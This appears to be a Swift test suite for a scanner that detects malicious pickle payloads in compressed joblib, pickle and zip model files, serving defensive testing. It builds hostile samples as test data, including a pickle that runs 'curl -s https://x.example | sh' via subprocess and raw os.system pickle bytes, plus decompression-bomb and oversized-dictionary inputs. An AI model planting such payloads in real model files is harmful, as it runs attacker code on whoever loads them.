import BulwarkCore
import BulwarkFormats
@testable import BulwarkModels
import Foundation
import Testing

/// The model of one file, as the rules see it.
func inspectModel(_ bytes: [UInt8], path: String = "models/model.joblib", config: Configuration = Configuration()) -> ModelFile {
    ModelInspector(file: SourceFile(relativePath: path, bytes: bytes), configuration: config).inspect()
}

func compressed(_ codec: StreamDecompressor.Codec, _ data: [UInt8], level: Int = 3) -> [UInt8] {
    guard let c = StreamDecompressor.compress(codec, data, level: level) else {
        Issue.record("compression with \(codec) failed")
        return []
    }
    return c
}

/// A zip member already compressed with bzip2 (12), LZMA (14, with the zip LZMA prefix) or xz (95).
func compressedMember(_ name: String, _ plain: [UInt8], method: UInt16, crc: UInt32? = nil) -> ZipBuilder.Entry {
    let data: [UInt8]
    var flags: UInt16 = 0
    switch method {
    case 12: data = compressed(.bzip2, plain)
    case 95: data = compressed(.xz, plain)
    default:
        // .lzma = 5 property bytes, 8 size bytes (unknown: the encoder writes an end marker), data.
        let alone = compressed(.lzmaAlone, plain)
        data = [9, 20, 5, 0] + alone.prefix(5) + alone.dropFirst(13)
        flags = 0x02
    }
    return ZipBuilder.Entry(name: name, data: data, crcOverride: crc ?? CRC32.checksum(plain), flags: flags, method: method,
                            uncompressedSize: plain.count)
}

func options(_ o: [String: ConfigValue]) -> Configuration {
    var c = Configuration()
    c.rules["model-scan-incomplete"] = Configuration.RuleEntry(options: o)
    return c
}

@Suite("bzip2 / xz / lzma payloads are decoded and scanned")
struct CompressedStreamTests {
    static let codecs = StreamDecompressor.Codec.allCases

    @Test(arguments: codecs) func roundTrip(_ codec: StreamDecompressor.Codec) {
        let plain = PickleExamples.stateDict + Array(String(repeating: "weights ", count: 5000).utf8)
        let c = compressed(codec, plain)
        #expect(StreamDecompressor.codec(sniffing: Array(c.prefix(16))) == codec)
        let r = StreamDecompressor.decompress(codec, c, limits: .init(maxOutput: 1 << 20))
        #expect(r.stop == nil)
        #expect(r.output == plain)
        #expect(r.streams == 1 && r.trailingBytes == 0 && r.consumed == c.count)
        // Chunked input reads give the same result.
        let small = StreamDecompressor.decompress(codec, MemoryBytes(c), limits: .init(maxOutput: 1 << 20, inputChunk: 64))
        #expect(small.output == plain)
    }

    @Test func realJoblibFilesAreCleanAndScanned() {
        let samples: [(String, [UInt8])] = [("bz2", CompressedSamples.logregBz2), ("xz", CompressedSamples.logregXz),
                                            ("lzma", CompressedSamples.logregLzma), ("arrays-lzma", CompressedSamples.arraysLzma)]
        for (name, bytes) in samples {
            let path = "models/\(name).joblib"
            let f = scanModel(bytes, path: path)
            #expect(serious(f).isEmpty, "\(name): \(f.map(\.message))")
            let m = inspectModel(bytes, path: path)
            #expect(m.pickles.count == 1, "\(name): the pickle inside was not analysed")
            #expect(m.pickles.first?.analysis.imports.contains { $0.module.hasPrefix("sklearn") || $0.module.hasPrefix("joblib") } == true,
                    "\(name)")
            #expect(m.pickles.first?.carrier == "joblib" || name == "arrays-lzma" && m.pickles.first?.carrier != nil)
        }
    }

    @Test func numpySubclassesAreInert() {
        let f = scanModel(CompressedSamples.matrixXz, path: "models/matrix.joblib")
        #expect(f.isEmpty, "\(f.map(\.message))")
        #expect(inspectModel(CompressedSamples.matrixXz).pickles.first?.analysis.imports.contains { $0.name == "matrix" } == true)
    }

    @Test func zeroFilledArraysAreNotABomb() {
        for (name, bytes) in [("bz2", CompressedSamples.zerosBz2), ("xz", CompressedSamples.zerosXz)] {
            let f = scanModel(bytes, path: "models/zeros.\(name).joblib")
            #expect(f.isEmpty, "\(name): \(f.map(\.message))")
            #expect(inspectModel(bytes).pickles.first?.analysis.inlineArrays == 2, "\(name)")
        }
    }

    @Test(arguments: codecs) func maliciousPickleIsFound(_ codec: StreamDecompressor.Codec) {
        let f = scanModel(compressed(codec, PickleExamples.osSystem), path: "models/model.joblib")
        let call = f.first { $0.ruleID == "pickle-dangerous-call" }
        #expect(call?.severity == .critical)
        #expect(call?.location.archiveMember == "<\(codec.rawValue)>")
        #expect(!f.contains { $0.ruleID == "archive-unscannable-payload" })
    }

    @Test func maliciousJoblibWithInlineArraysInXz() {
        // joblib layout: the estimator pickle names a payload, arrays follow inline.
        let payload = PickleBuilder.call("subprocess", "check_output", ["curl -s https://x.example | sh"], protocol: 4)
        let f = scanModel(compressed(.xz, payload + [UInt8](repeating: 0, count: 4096)), path: "m.joblib")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("subprocess") })
    }

    @Test func nestedCompressionIsFollowed() {
        // A bz2 stream holding a gzip stream holding the pickle.
        let f = scanModel(compressed(.bzip2, gzipStored(PickleExamples.osSystem)), path: "m.pkl.bz2")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.location.archiveMember == "<bzip2>!gzip" })
    }

    @Test func corruptStreamIsAFindingAndThePrefixIsScanned() {
        // The payload comes first; the stream breaks afterwards (the nullifAI shape, compressed).
        let plain = PickleExamples.osSystem + (0..<200_000).map { UInt8(truncatingIfNeeded: $0 &* 7919 >> 3) }
        for codec in Self.codecs {
            var c = compressed(codec, plain, level: 1)
            c[c.count * 3 / 4] ^= 0x55
            c[c.count * 3 / 4 + 1] ^= 0x55
            let m = inspectModel(c, path: "m.joblib")
            let f = scanModel(c, path: "m.joblib")
            #expect(!serious(f).isEmpty, "\(codec): corrupt data must not be clean")
            #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.message.contains("Corrupt compressed payload") }
                    || f.contains { $0.ruleID == "pickle-dangerous-call" }, "\(codec): \(f.map(\.message))")
            _ = m
        }
    }

    @Test func brokenZlibAndGzipPrefixesAreScanned() {
        // The payload decodes, then the deflate data breaks: the loader has already run the payload.
        // Stored deflate blocks of 65535 bytes: cutting the file at 100 kB keeps the first block whole.
        let payload = PickleExamples.osSystem + [UInt8](repeating: 0x4E, count: 200_000)
        for (name, bytes) in [("zlib", zlibStored(payload)), ("gzip", gzipStored(payload))] {
            let f = scanModel(Array(bytes.prefix(100_000)), path: "m.joblib")
            #expect(f.contains { $0.ruleID == "pickle-dangerous-call" }, "\(name): \(f.map(\.message))")
            #expect(f.contains { $0.ruleID == "pickle-malformed-stream" }, "\(name): the cut is the file's, so it is reported")
        }
    }

    @Test func textStartingLikeZlibIsNotAFinding() {
        #expect(scanModel(Array("x^2 + y^2 = r^2, the circle, and more text here\n".utf8), path: "notes.bin").isEmpty)
    }

    @Test(arguments: codecs) func truncatedStreamIsAFinding(_ codec: StreamDecompressor.Codec) {
        let c = compressed(codec, PickleExamples.stateDict)
        let cut = Array(c.prefix(c.count - 8))
        let r = StreamDecompressor.decompress(codec, cut, limits: .init(maxOutput: 1 << 20))
        #expect(r.stop != nil)
        let f = scanModel(cut, path: "m.joblib")
        #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium }, "\(f.map(\.message))")
    }

    @Test func badMagicAfterSniffIsCorrupt() {
        // `BZh9` then garbage: the decoder rejects it, the finding says so.
        let bytes: [UInt8] = Array("BZh9".utf8) + [UInt8](repeating: 0x41, count: 64)
        let f = scanModel(bytes, path: "m.bz2")
        #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.message.contains("bzip2") })
    }

    @Test func concatenatedStreamsAndTrailingGarbage() {
        let a = compressed(.bzip2, PickleExamples.stateDict), b = compressed(.bzip2, PickleExamples.osSystem)
        let r = StreamDecompressor.decompress(.bzip2, a + b, limits: .init(maxOutput: 1 << 20))
        #expect(r.streams == 2 && r.stop == nil)
        #expect(r.output == PickleExamples.stateDict + PickleExamples.osSystem)
        // Python's readers ignore junk after a complete stream; so does the decoder (and says how much).
        let x = compressed(.xz, PickleExamples.stateDict)
        let t = StreamDecompressor.decompress(.xz, x + Array("not a stream".utf8), limits: .init(maxOutput: 1 << 20))
        #expect(t.stop == nil && t.trailingBytes == 12 && t.output == PickleExamples.stateDict)
        // Two pickles in a row (the second one malicious) are both analysed.
        let f = scanModel(a + b, path: "m.pkl.bz2")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" })
    }

    @Test func ratioBombStopsEarlyAndIsIncomplete() {
        let zeros = [UInt8](repeating: 0, count: 48 << 20)
        let bomb = compressed(.xz, PickleExamples.osSystem + zeros, level: 0)
        let start = Date()
        let r = StreamDecompressor.decompress(.xz, bomb, limits: .init(maxOutput: 1 << 30))
        #expect(r.stop == .ratioLimit)
        #expect(r.output.count < 8 << 20)
        #expect(StreamDecompressor.decompress(.xz, bomb, limits: .init(maxOutput: 1 << 30, ratioFloor: 32 << 20)).stop == .ratioLimit)
        #expect(Date().timeIntervalSince(start) < 5)
        let f = scanModel(bomb, path: "m.joblib")
        #expect(f.contains { $0.ruleID == "model-scan-incomplete" && $0.message.contains("ratio") })
        // The prefix that was decoded is still analysed, without a "truncated" complaint of our own making.
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" })
    }

    @Test func outputCapIsIncompleteNeverClean() {
        let plain = PickleExamples.stateDict + (0..<300_000).map { UInt8(truncatingIfNeeded: $0 &* 2654435761 >> 13) }
        let c = compressed(.bzip2, plain)
        let f = scanModel(c, path: "m.joblib", config: options(["max-decompressed-bytes": .int(100_000)]))
        #expect(f.contains { $0.ruleID == "model-scan-incomplete" && $0.message.contains("100000") }, "\(f.map(\.message))")
        #expect(!f.contains { $0.ruleID == "pickle-malformed-stream" }, "\(f.map(\.message))")
    }

    @Test func pickleByteCapAppliesToDecompressedPickles() {
        let c = compressed(.xz, PickleExamples.osSystem + [UInt8](repeating: 0x4E, count: 200_000))
        let f = scanModel(c, path: "m.joblib", config: options(["max-pickle-bytes": .int(50_000)]))
        #expect(f.contains { $0.ruleID == "model-scan-incomplete" && $0.message.contains("50000") }, "\(f.map(\.message))")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" })
    }

    @Test func hugeLZMADictionaryIsAMemoryLimit() {
        var c = compressed(.lzmaAlone, PickleExamples.stateDict)
        // Dictionary size 1.5 GiB (2^30 + 2^29): a valid header that would make the decoder allocate it.
        c[1] = 0; c[2] = 0; c[3] = 0; c[4] = 0x60
        let r = StreamDecompressor.decompress(.lzmaAlone, c, limits: .init(maxOutput: 1 << 20))
        if case .memoryLimit = r.stop {} else { Issue.record("expected a memory limit, got \(String(describing: r.stop))") }
        let f = scanModel(c, path: "m.joblib")
        #expect(f.contains { $0.ruleID == "model-scan-incomplete" && $0.message.contains("decoder memory") }, "\(f.map(\.message))")
    }

    @Test func lzmaSniffIsStrict() {
        #expect(StreamDecompressor.looksLikeLZMAAlone([0x5D, 0, 0, 0x40, 0] + [UInt8](repeating: 0xFF, count: 8)))
        #expect(!StreamDecompressor.looksLikeLZMAAlone([0x5D, 0, 0, 0x41, 0] + [UInt8](repeating: 0xFF, count: 8)))
        #expect(!StreamDecompressor.looksLikeLZMAAlone(Array("], \"x\": [1, 2, 3]}".utf8)))
        #expect(!StreamDecompressor.looksLikeLZMAAlone([0x5D, 0, 0, 0x40, 0, 1, 2, 3, 4, 5, 6, 7, 0x80]))
    }

    // MARK: - zip members compressed with bzip2, LZMA, xz (Python's zipfile reads 12 and 14: numpy.load of .npz)

    @Test func pythonZipfileMembersAreReadAndClean() {
        for (name, bytes) in [("bz2", CompressedSamples.zipBzip2Member), ("lzma", CompressedSamples.zipLzmaMember)] {
            let f = scanModel(bytes, path: "models/\(name).zip")
            #expect(f.isEmpty, "\(name): \(f.map(\.message))")
            let m = inspectModel(bytes, path: "models/\(name).zip")
            #expect(m.pickles.map(\.member) == ["model/state.pkl"], "\(name)")
        }
    }

    @Test(arguments: [UInt16(12), 14, 95]) func maliciousZipMemberIsFound(_ method: UInt16) {
        var z = ZipBuilder()
        z.add(compressedMember("arr_0.npy", NumpyObjectArrayRule.npy(descr: "|O", body: PickleExamples.osSystem), method: method))
        z.add(compressedMember("archive/data.pkl", PickleExamples.osSystem, method: method))
        let f = scanModel(z.build(), path: "data.npz")
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.location.archiveMember == "archive/data.pkl" }, "\(f.map(\.message))")
        #expect(f.contains { $0.ruleID == "numpy-object-array" && $0.location.archiveMember == "arr_0.npy" })
        #expect(!f.contains { $0.ruleID == "archive-unscannable-payload" || $0.ruleID == "archive-zip-tampering" }, "\(f.map(\.message))")
    }

    @Test func zeroFilledZipMemberIsNotABomb() {
        let npy = NumpyObjectArrayRule.npy(descr: "<f4", body: [UInt8](repeating: 0, count: 8 << 20))
        var z = ZipBuilder()
        z.add(compressedMember("emb.npy", npy, method: 12))
        z.add(compressedMember("state.pkl", PickleExamples.stateDict, method: 14))
        let f = scanModel(z.build(), path: "weights.npz")
        #expect(f.isEmpty, "\(f.map(\.message))")
    }

    @Test func unsupportedZipMethodStaysUnscannable() {
        var z = ZipBuilder()
        z.add(.init(name: "archive/data.pkl", data: [0x28, 0xB5, 0x2F, 0xFD, 0, 0, 0, 0], method: 93))
        let f = scanModel(z.build(), path: "m.pt")
        #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.message.contains("Zstandard") })
    }

    // MARK: - CRC of the members that are read

    @Test func crcMismatchOnEveryMemberThatIsRead() {
        var z = ZipBuilder()
        // A compressed pickle, a compressed nested archive and the Keras config: all read whole, all checked.
        z.add(compressedMember("archive/data.pkl", PickleExamples.stateDict, method: 12, crc: 0x1234_5678))
        z.add(compressedMember("inner.zip", ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict), method: 95, crc: 0x1111_1111))
        z.add(.init(name: "config.json", data: Array(FormatBuilders.kerasDenseConfig.utf8), crcOverride: 0x2222_2222))
        z.add("metadata.json", Array(#"{"keras_version": "3.3.3"}"#.utf8))
        // A stored compressed stream (a bz2 joblib inside a bundle) is decoded whole, so it is checked too.
        z.add(.init(name: "extra/model.joblib", data: compressed(.bzip2, PickleExamples.stateDict), crcOverride: 0x4444_4444))
        z.add(.init(name: "extra/ok.joblib", data: compressed(.xz, PickleExamples.stateDict)))
        // Tensor data is never read, so its CRC is not checked (documented in docs/families/models.md).
        z.add(.init(name: "archive/data/0", data: [UInt8](repeating: 0x3F, count: 64), crcOverride: 0x3333_3333))
        let f = scanModel(z.build(), path: "m.zip").filter { $0.ruleID == "archive-zip-tampering" && $0.message.contains("CRC") }
        let members = Set(f.compactMap(\.location.archiveMember))
        #expect(members == ["archive/data.pkl", "inner.zip", "config.json", "extra/model.joblib"], "\(f.map(\.message))")
    }

    @Test func storedPickleCRCStillChecked() {
        let f = scanModel(ArchiveZipTamperingRule.crcTrick, path: "m.pt")
        #expect(f.filter { $0.message.contains("CRC") }.count == 1)
    }

    // MARK: - Fuzz

    @Test func fuzzDecompressor() {
        var seeds: [(StreamDecompressor.Codec, [UInt8])] = []
        for codec in Self.codecs {
            seeds.append((codec, compressed(codec, PickleExamples.stateDict)))
            seeds.append((codec, compressed(codec, PickleExamples.osSystem + [UInt8](repeating: 7, count: 3000))))
        }
        seeds += [(.bzip2, CompressedSamples.logregBz2), (.xz, CompressedSamples.logregXz), (.lzmaAlone, CompressedSamples.logregLzma)]
        var rng = SeededRandom(state: 42)
        let start = Date()
        var stops = 0, produced = 0
        for i in 0..<3000 {
            let (codec, seed) = seeds[i % seeds.count]
            let input = mutate(seed, &rng)
            let r = StreamDecompressor.decompress(codec, input, limits: .init(maxOutput: 256 << 10, maxRatio: 200, ratioFloor: 64 << 10,
                                                                               maxMemory: 16 << 20, inputChunk: 128))
            #expect(r.output.count <= 256 << 10)
            #expect(r.consumed <= input.count)
            if r.stop != nil { stops += 1 }
            produced += r.output.count
            if i % 10 == 0 { _ = scanModel(input, path: "m.joblib") }
        }
        #expect(stops > 0 && produced > 0)
        #expect(Date().timeIntervalSince(start) < 60, "decompressor fuzzing took too long")
    }

    @Test func fuzzZipWithCompressedMembers() {
        var seeds: [[UInt8]] = [CompressedSamples.zipBzip2Member, CompressedSamples.zipLzmaMember]
        for method: UInt16 in [12, 14, 95] {
            var z = ZipBuilder()
            z.add(compressedMember("archive/data.pkl", PickleExamples.osSystem, method: method))
            z.add(compressedMember("inner.zip", ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict), method: method))
            seeds.append(z.build())
        }
        var rng = SeededRandom(state: 43)
        let start = Date()
        var findings = 0
        for i in 0..<1500 {
            findings += scanModel(mutate(seeds[i % seeds.count], &rng), path: "m.npz").count
        }
        #expect(findings > 0)
        #expect(Date().timeIntervalSince(start) < 60, "zip fuzzing took too long")
    }
}

@Suite("protocol 0/1 pickles with unusual first opcodes")
struct OddOpenerTests {
    @Test func pickleOpeningWithAnyOpcodeIsScanned() {
        // pickle.load runs these: push a number, POP it, then the classic GLOBAL + REDUCE payload.
        let openers: [[UInt8]] = [[0x4B, 0x01, 0x30], Array("F1.0\n0".utf8), Array("I7\n0".utf8), Array("G".utf8) + [UInt8](repeating: 0, count: 8) + [0x30]]
        for opener in openers {
            let bytes = opener + Array("cos\nsystem\n(S'id'\ntR.".utf8)
            let f = scanModel(bytes, path: "models/model.pkl")
            #expect(f.contains { $0.ruleID == "pickle-dangerous-call" }, "\(opener): \(f.map(\.message))")
        }
    }

    @Test func textEndingWithAPeriodIsNotAPickle() {
        let texts = ["This project is dual-licensed under your choice of the MIT license or the Apache license.",
                     "Good morning, this is a letter of " + String(repeating: "more words ", count: 80) + "the end.",
                     "K. Jones wrote 0 lines of code.", "I think therefore I am.", "F. Scott Fitzgerald."]
        for t in texts {
            #expect(scanModel(Array(t.utf8), path: "docs/NOTES").isEmpty, "\(t)")
        }
    }
}
